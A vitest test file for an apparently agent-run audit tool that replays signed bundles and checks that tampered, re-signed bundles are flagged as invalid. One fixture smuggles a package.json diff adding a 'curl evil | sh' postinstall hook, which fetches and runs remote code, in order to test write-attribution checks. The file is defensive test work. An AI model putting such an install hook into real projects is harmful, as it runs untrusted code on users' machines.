// Replay over bundles the real chain made: the committed fixed-seed golden
// bundles (test/golden), fresh runs of `--mode` as a user would start them, and
// tampered variants re-signed with the same TEST-ONLY key, so the signature
// stays valid and only the chain checks can catch the lie.
import { chmod, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REQUIRED_ARTIFACTS, generateSigningKeyPem, parseSigningKeyPem, writeBundle } from '@lumenflow/verifier';
import type { SigningKey } from '@lumenflow/verifier';
import { parseStrictJson } from '@lumenflow/protocol';
import { formatReplayReport, renderReplayHtml, replayBundle } from '@lumenflow/replay';
import type { ChainCheck } from '@lumenflow/replay';
import { REPO_ROOT, runCli } from './helpers/cli.js';
import { makeTempRoot } from './helpers/records.js';

const GOLDEN = join(REPO_ROOT, 'test', 'golden');
const GOLDEN_HAPPY = join(GOLDEN, 'happy');
const GOLDEN_BLOCKED = join(GOLDEN, 'policy-blocked');

let root: string;
let cleanup: () => Promise<void>;
let goldenKey: SigningKey;
let n = 0;

beforeAll(async () => {
  ({ root, cleanup } = await makeTempRoot('lumenflow-replay-real-'));
  goldenKey = parseSigningKeyPem(await readFile(join(GOLDEN, 'keys', 'bundle-signer.TEST-ONLY.pem'), 'utf8'));
});
afterAll(async () => cleanup());

type Artifacts = Record<string, string>;
type Json = Record<string, unknown>;

async function readArtifacts(dir: string): Promise<{ artifacts: Artifacts; manifest: { runId: string; mode: 'happy' | 'policy-blocked'; createdAt: string } }> {
  const artifacts: Artifacts = {};
  for (const name of REQUIRED_ARTIFACTS) artifacts[name] = await readFile(join(dir, name), 'utf8');
  const manifest = parseStrictJson(await readFile(join(dir, 'manifest.json'), 'utf8')) as unknown as { runId: string; mode: 'happy' | 'policy-blocked'; createdAt: string };
  return { artifacts, manifest };
}

/** Re-signs a real bundle after `edit` with the same key, under the same run id. */
async function resign(dir: string, edit: (a: Artifacts) => void): Promise<string> {
  const { artifacts, manifest } = await readArtifacts(dir);
  edit(artifacts);
  n += 1;
  const written = await writeBundle({ outDir: join(root, `tampered-${n}`), runId: manifest.runId, mode: manifest.mode, createdAt: manifest.createdAt, artifacts, signingKey: goldenKey });
  return written.dir;
}

const lines = (text: string): Json[] => text.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Json);
const toLines = (records: Json[]): string => records.map((r) => `${JSON.stringify(r)}\n`).join('');
const editJson = (a: Artifacts, name: string, edit: (doc: Json) => void): void => {
  const doc = JSON.parse(a[name]!) as Json;
  edit(doc);
  a[name] = `${JSON.stringify(doc, null, 2)}\n`;
};
const editLines = (a: Artifacts, name: string, edit: (records: Json[]) => void): void => {
  const records = lines(a[name]!);
  edit(records);
  a[name] = toLines(records);
};

async function failedCodes(dir: string): Promise<{ valid: boolean; signatureValid: boolean; codes: ChainCheck['code'][]; receipts: string | undefined }> {
  const report = await replayBundle(dir, { expectKeyId: goldenKey.keyId });
  const receipts = report.verification.checks.find((c) => c.name === 'runtime.receipts');
  return {
    valid: report.valid,
    signatureValid: report.verification.checks.filter((c) => c.name !== 'runtime.receipts').every((c) => c.ok),
    codes: report.chainChecks.filter((c) => !c.ok).map((c) => c.code),
    receipts: receipts?.ok ? 'ok' : receipts?.code,
  };
}

describe('replay of the golden bundles', () => {
  it('the golden happy bundle is VALID with the signer pinned', async () => {
    const report = await replayBundle(GOLDEN_HAPPY, { expectKeyId: goldenKey.keyId });
    expect(report.chainChecks.filter((c) => !c.ok)).toEqual([]);
    expect(report.verification.valid).toBe(true);
    expect(report.valid).toBe(true);
    expect(report.signerPinned).toBe(true);
    // Five runtime calls, then Cloud's open_pull_request (the patch provider).
    expect(report.timeline.filter((e) => e.step === 'tool_call')).toHaveLength(6);
    expect(report.timeline.at(-1)?.step).toBe('proof');
  });

  it('the golden policy-blocked bundle is VALID: a Cloud deny, no tool call, no approval', async () => {
    const report = await replayBundle(GOLDEN_BLOCKED, { expectKeyId: goldenKey.keyId });
    expect(report.chainChecks.filter((c) => !c.ok)).toEqual([]);
    expect(report.valid).toBe(true);
    expect(report.timeline.some((e) => e.step === 'policy' && e.status === 'deny')).toBe(true);
    expect(report.timeline.some((e) => e.step === 'tool_call')).toBe(false);
    // Untimed steps come after the deny that explains them.
    const steps = report.timeline.map((e) => e.status);
    expect(steps.indexOf('not_run')).toBeGreaterThan(steps.indexOf('deny'));
  });
});

describe('replay shows the runtime key and its receipts', () => {
  it('names the enrolled runtime key on the page, the terminal and the dispatch step, and says the receipts hold', async () => {
    const report = await replayBundle(GOLDEN_HAPPY, { expectKeyId: goldenKey.keyId });
    const runtimeKey = report.chain.session?.runtime.keyId ?? 'none';
    expect(runtimeKey).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(formatReplayReport(report)).toContain(`runtime: ${runtimeKey}, receipts VALID`);
    const html = renderReplayHtml(report);
    expect(html).toContain(`data-testid="runtime-evidence" data-ok="true"`);
    expect(html).toContain(`<code data-testid="runtime-key-id">${runtimeKey}</code>`);
    expect(report.timeline.find((e) => e.step === 'dispatch')?.what).toContain(`runtime key ${runtimeKey}`);
  });

  it('an edited tool call re-signed by the bundle signer: INVALID, the receipts FAILED', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) => editLines(a, 'tool-calls.jsonl', (records) => void (records[0]!['inputSummary'] = 'read nothing at all')));
    const report = await replayBundle(dir, { expectKeyId: goldenKey.keyId });
    expect(report.verdict).toBe('INVALID');
    expect(formatReplayReport(report)).toContain('receipts FAILED RECEIPT_SIGNATURE_INVALID');
    expect(renderReplayHtml(report)).toContain(`data-testid="runtime-evidence" data-ok="false"`);
  });
});

describe('replay of tampered real bundles, re-signed with the same key', () => {
  it('a diff edited after approval: signature valid, APPROVAL_HASH_MISMATCH', async () => {
    // The first added line is the +++ header: the edit also names a path no allowed write covers.
    const dir = await resign(GOLDEN_HAPPY, (a) => void (a['file-diff.patch'] = a['file-diff.patch']!.replace(/^\+(.*)$/m, '+$1 // and exfiltrate')));
    // The bundle signer re-signed it, but the runtime never signed this diff.
    expect(await failedCodes(dir)).toEqual({ valid: false, signatureValid: true, codes: ['APPROVAL_HASH_MISMATCH', 'WRITE_UNATTRIBUTED', 'PULL_REQUEST_BINDING'], receipts: 'RECEIPT_SIGNATURE_INVALID' });
  });

  it('a PR text edited after approval: APPROVAL_HASH_MISMATCH', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) => void (a['pr-summary.md'] += '\nAlso rotates the production database password.\n'));
    expect((await failedCodes(dir)).codes).toEqual(['APPROVAL_HASH_MISMATCH']);
  });

  it('a tool call whose decision is a deny: TOOL_CALL_WITHOUT_ALLOW', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) =>
      editLines(a, 'policy-decisions.jsonl', (records) => {
        const d = records.find((r) => r['decisionId'] === 'rdec_0003')!;
        d['effect'] = 'deny';
      }),
    );
    const result = await failedCodes(dir);
    expect(result.signatureValid).toBe(true);
    expect(result.receipts).toBe('RECEIPT_SIGNATURE_INVALID');
    expect(result.codes).toContain('TOOL_CALL_WITHOUT_ALLOW');
    expect(result.codes).toContain('TOOL_CALL_AFTER_HALT');
  });

  it('a tool call pointing at a Cloud decision instead of its runtime one: TOOL_CALL_WITHOUT_ALLOW', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) => editLines(a, 'tool-calls.jsonl', (records) => void (records[2]!['decisionId'] = 'cdec_0003')));
    expect((await failedCodes(dir)).codes).toEqual(['TOOL_CALL_WITHOUT_ALLOW']);
  });

  it('swapped ids (a tool call from another session, a session from another run): ID_MISMATCH', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) => {
      editLines(a, 'tool-calls.jsonl', (records) => void (records[1]!['sessionId'] = 'ses_9999'));
      editJson(a, 'node-session.json', (doc) => void (doc['runId'] = 'golden-policy-blocked'));
    });
    expect((await failedCodes(dir)).codes).toEqual(['ID_MISMATCH']);
  });

  it('a diff holding a change no allowed write covers (package.json appended): WRITE_UNATTRIBUTED', async () => {
    const smuggled = 'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-{}\n+{"scripts":{"postinstall":"curl evil | sh"}}\n';
    const dir = await resign(GOLDEN_HAPPY, (a) => void (a['file-diff.patch'] += smuggled));
    const result = await failedCodes(dir);
    expect(result.codes).toContain('WRITE_UNATTRIBUTED');
    expect(result.codes).toContain('APPROVAL_HASH_MISMATCH');
  });

  it('a process write recorded as denied but left in place: WRITE_UNATTRIBUTED', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) =>
      editLines(a, 'policy-decisions.jsonl', (records) => {
        const gate = records.find((r) => r['toolCallId'] === 'call_0004')!;
        records.push({ ...gate, decisionId: 'rdec_0099', toolCallId: undefined, scope: { kind: 'fs.write', target: 'package.json' }, effect: 'deny', decidingRuleId: 'runtime.fs.manifest.deny-write', attribution: { toolCallId: 'call_0004', change: 'modified', reverted: false } });
        records.sort((x, y) => String(x['timestamp']).localeCompare(String(y['timestamp'])));
      }),
    );
    expect((await failedCodes(dir)).codes).toEqual(['WRITE_UNATTRIBUTED']);
  });

  it('a test run that names another sandbox profile than the session: SANDBOX_MISMATCH', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) =>
      editLines(a, 'tool-calls.jsonl', (records) => {
        const tests = records.find((r) => r['tool'] === 'run_tests')!;
        tests['sandbox'] = { kind: 'none' };
      }),
    );
    expect((await failedCodes(dir)).codes).toEqual(['SANDBOX_MISMATCH']);
  });

  it('the requester approving their own request: SELF_APPROVAL', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) =>
      editJson(a, 'approval.json', (doc) => {
        const request = doc['request'] as Json;
        (doc['resolution'] as Json)['approver'] = request['requestedBy'];
      }),
    );
    expect((await failedCodes(dir)).codes).toEqual(['SELF_APPROVAL']);
  });

  it('an approval given after expiry: APPROVAL_EXPIRED', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) => editJson(a, 'approval.json', (doc) => void ((doc['resolution'] as Json)['decidedAt'] = '2026-11-25T10:00:00.000Z')));
    const codes = (await failedCodes(dir)).codes;
    expect(codes).toContain('APPROVAL_EXPIRED');
  });

  it('test counts that disagree with the list: TEST_COUNTS_MISMATCH', async () => {
    const dir = await resign(GOLDEN_HAPPY, (a) => editJson(a, 'test-results.json', (doc) => void ((doc['counts'] as Json)['passed'] = 99)));
    expect((await failedCodes(dir)).codes).toContain('TEST_COUNTS_MISMATCH');
  });

  it('a tool call smuggled into a policy-blocked run: TOOL_CALL_AFTER_HALT (and the verifier’s mode rule)', async () => {
    const happyCall = lines(await readFile(join(GOLDEN_HAPPY, 'tool-calls.jsonl'), 'utf8'))[0]!;
    const dir = await resign(GOLDEN_BLOCKED, (a) => {
      a['tool-calls.jsonl'] = toLines([{ ...happyCall, runId: 'golden-policy-blocked' }]);
    });
    const result = await failedCodes(dir);
    expect(result.signatureValid).toBe(false);
    expect(result.codes).toContain('TOOL_CALL_AFTER_HALT');
  });
});

describe('replay of fresh demo runs, as a user would make them', () => {
  it('replays a happy and a policy-blocked run of `--mode` as VALID, pinned', async () => {
    const keyFile = join(root, 'signing-key.pem');
    const pem = generateSigningKeyPem();
    await writeFile(keyFile, pem, { mode: 0o600 });
    await chmod(keyFile, 0o600);
    const keyId = parseSigningKeyPem(pem).keyId;
    const out = join(root, 'runs');
    for (const mode of ['happy', 'policy-blocked'] as const) {
      const run = await runCli(['--mode', mode, '--out-dir', out, '--run-id', `replay-${mode}`, '--signing-key', keyFile, '--log-level', 'silent']);
      expect(run.code, run.stderr).toBe(0);
      const replay = await runCli(['--replay', join(out, `replay-${mode}`), '--expect-key-id', keyId]);
      expect(replay.code, replay.stdout).toBe(0);
      expect(replay.stdout.split('\n')[0]).toBe(`VALID  run replay-${mode} (${mode})`);
    }
  });
});
